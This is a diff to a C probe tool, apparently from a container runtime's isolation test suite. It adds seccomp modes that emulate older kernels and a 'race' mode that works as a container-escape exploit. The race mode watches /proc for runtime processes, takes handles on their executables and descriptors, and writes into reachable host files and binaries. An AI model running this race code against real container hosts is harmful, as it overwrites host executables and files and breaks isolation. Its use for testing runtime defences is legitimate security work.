@@ -4,8 +4,10 @@
 #define _GNU_SOURCE
 #include <dirent.h>
 #include <errno.h>
+#include <fcntl.h>
 #include <sched.h>
 #include <signal.h>
+#include <stdarg.h>
 #include <stdio.h>
 #include <stdlib.h>
 #include <string.h>
@@ -28,6 +30,11 @@ static const char *errno_name(int e) {
     case EINVAL: return "EINVAL";
     case ENOENT: return "ENOENT";
     case ENOMEM: return "ENOMEM";
+    case EROFS: return "EROFS";
+    case ETXTBSY: return "ETXTBSY";
+    case EBADF: return "EBADF";
+    case ENXIO: return "ENXIO";
+    case ESRCH: return "ESRCH";
     default: return "EOTHER";
     }
 }
@@ -35,6 +42,115 @@ static const char *errno_name(int e) {
 /* The answer is the output; the exit code says only that probe itself worked. */
 static int report(long rc) {
     printf("%s\n", rc < 0 ? errno_name(errno) : "ok");
+    return 0;
+}
+
+/* Logs a line once: the racer sees the same process many times. */
+static unsigned long seen[16384];
+static int nseen;
+static void once(FILE *log, const char *fmt, ...) {
+    char line[8192];
+    va_list ap;
+    va_start(ap, fmt);
+    vsnprintf(line, sizeof line, fmt, ap);
+    va_end(ap);
+    unsigned long h = 5381;
+    for (const char *c = line; *c; c++) h = h * 33 + (unsigned char)*c;
+    for (int i = 0; i < nseen; i++)
+        if (seen[i] == h) return;
+    if (nseen < 16384) seen[nseen++] = h;
+    fputs(line, log);
+}
+
+/* Whether `target` (a /proc link's text) is a program of the container. */
+static int ours(const char *target) {
+    return !strcmp(target, "/bin/busybox") || !strcmp(target, "/bin/probe");
+}
+
+/* race HOSTPATH: until /race.stop exists, looks at every other process of the container
+ * whose executable is not one of the container's (a process the runtime is starting):
+ * its exe, root, cwd and descriptors, read and (host files) written. Logs to /race.log
+ * what it got: "exe PID TARGET", "exe-open PID TARGET" (a handle kept), "root PID"
+ * (HOSTPATH reached through /proc/PID/root), "cwd PID TARGET", "fd PID N TARGET",
+ * "fd-write PID N TARGET"; and "denied N": how often such a process refused us.
+ * When stopped, tries to open each kept exe handle for writing and writes through it:
+ * "exe-write TARGET" (the attack worked) or "exe-write-refused TARGET ERRNO". */
+static int race(const char *hostpath) {
+    FILE *log = fopen("/race.log", "w");
+    if (!log) { perror("probe: /race.log"); return 2; }
+    setvbuf(log, NULL, _IOLBF, 0);
+    int held[256], nheld = 0, last_held = 0;
+    long denied = 0, rounds = 0;
+    pid_t self = getpid();
+    char path[4096 + 64], target[4096];
+    while (access("/race.stop", F_OK) != 0) {
+        rounds++;
+        DIR *proc = opendir("/proc");
+        if (!proc) { perror("probe: /proc"); return 2; }
+        struct dirent *e;
+        while ((e = readdir(proc))) {
+            int pid = atoi(e->d_name);
+            if (pid <= 1 || pid == self) continue;
+            snprintf(path, sizeof path, "/proc/%d/exe", pid);
+            ssize_t n = readlink(path, target, sizeof target - 1);
+            if (n >= 0) {
+                target[n] = 0;
+                if (ours(target)) continue;
+                once(log, "exe %d %s\n", pid, target);
+            } else if (errno == EACCES || errno == EPERM) {
+                denied++;
+            } else {
+                continue; /* gone, or a kernel thread */
+            }
+            int fd = pid == last_held ? -1 : open(path, O_PATH | O_CLOEXEC);
+            if (fd >= 0) {
+                snprintf(path, sizeof path, "/proc/self/fd/%d", fd);
+                n = readlink(path, target, sizeof target - 1);
+                target[n < 0 ? 0 : n] = 0;
+                if (!ours(target) && nheld < 256) {
+                    fprintf(log, "exe-open %d %s\n", pid, target);
+                    held[nheld++] = fd;
+                    last_held = pid;
+                } else {
+                    close(fd);
+                }
+            }
+            snprintf(path, sizeof path, "/proc/%d/root%s", pid, hostpath);
+            if (access(path, F_OK) == 0) once(log, "root %d\n", pid);
+            snprintf(path, sizeof path, "/proc/%d/cwd", pid);
+            n = readlink(path, target, sizeof target - 1);
+            if (n >= 0) { target[n] = 0; once(log, "cwd %d %s\n", pid, target); }
+            for (int i = 0; i < 64; i++) {
+                snprintf(path, sizeof path, "/proc/%d/fd/%d", pid, i);
+                n = readlink(path, target, sizeof target - 1);
+                if (n < 0) continue;
+                target[n] = 0;
+                once(log, "fd %d %d %s\n", pid, i, target);
+                if (target[0] != '/' || !strncmp(target, "/dev/", 5)) continue;
+                int w = open(path, O_WRONLY | O_APPEND | O_CLOEXEC);
+                if (w >= 0) {
+                    once(log, "fd-write %d %d %s\n", pid, i, target);
+                    write(w, "raced\n", 6);
+                    close(w);
+                }
+            }
+        }
+        closedir(proc);
+    }
+    for (int i = 0; i < nheld; i++) {
+        snprintf(path, sizeof path, "/proc/self/fd/%d", held[i]);
+        ssize_t n = readlink(path, target, sizeof target - 1);
+        target[n < 0 ? 0 : n] = 0;
+        int w = open(path, O_WRONLY | O_CLOEXEC);
+        if (w >= 0 && write(w, "raced", 5) == 5) {
+            fprintf(log, "exe-write %s\n", target);
+            close(w);
+        } else {
+            fprintf(log, "exe-write-refused %s %s\n", target, errno_name(errno));
+        }
+    }
+    fprintf(log, "denied %ld\nrounds %ld\ndone\n", denied, rounds);
+    fclose(log);
     return 0;
 }
 
@@ -46,7 +162,7 @@ static double now(clockid_t clock) {
 
 int main(int argc, char **argv) {
     if (argc < 2) {
-        fprintf(stderr, "usage: probe keyctl|unshare-user|mount|getpid|alloc MB|fork N|spin SECS|fds|no-clone3 CMD...\n");
+        fprintf(stderr, "usage: probe keyctl|unshare-user|mount|getpid|alloc MB|fork N|spin SECS|fds|no-clone3 CMD...|no-open-tree CMD...|race HOSTPATH\n");
         return 2;
     }
     const char *what = argv[1];
@@ -96,6 +212,26 @@ int main(int argc, char **argv) {
         struct sock_filter code[] = {
             BPF_STMT(BPF_LD | BPF_W | BPF_ABS, offsetof(struct seccomp_data, nr)),
             BPF_JUMP(BPF_JMP | BPF_JEQ | BPF_K, SYS_clone3, 0, 1),
+            BPF_STMT(BPF_RET | BPF_K, SECCOMP_RET_ERRNO | ENOSYS),
+            BPF_STMT(BPF_RET | BPF_K, SECCOMP_RET_ALLOW),
+        };
+        struct sock_fprog prog = { sizeof(code) / sizeof(code[0]), code };
+        if (syscall(SYS_seccomp, SECCOMP_SET_MODE_FILTER, 0, &prog) < 0) {
+            perror("probe: seccomp");
+            return 2;
+        }
+        execvp(argv[2], argv + 2);
+        perror("probe: exec");
+        return 127;
+    }
+    if (!strcmp(what, "race") && argc > 2)
+        return race(argv[2]);
+    if (!strcmp(what, "no-open-tree") && argc > 2) {
+        /* Runs CMD where open_tree answers ENOSYS, as on kernels before 5.2 (needs
+         * CAP_SYS_ADMIN or no_new_privs: run it as root). */
+        struct sock_filter code[] = {
+            BPF_STMT(BPF_LD | BPF_W | BPF_ABS, offsetof(struct seccomp_data, nr)),
+            BPF_JUMP(BPF_JMP | BPF_JEQ | BPF_K, SYS_open_tree, 0, 1),
             BPF_STMT(BPF_RET | BPF_K, SECCOMP_RET_ERRNO | ENOSYS),
             BPF_STMT(BPF_RET | BPF_K, SECCOMP_RET_ALLOW),
         };
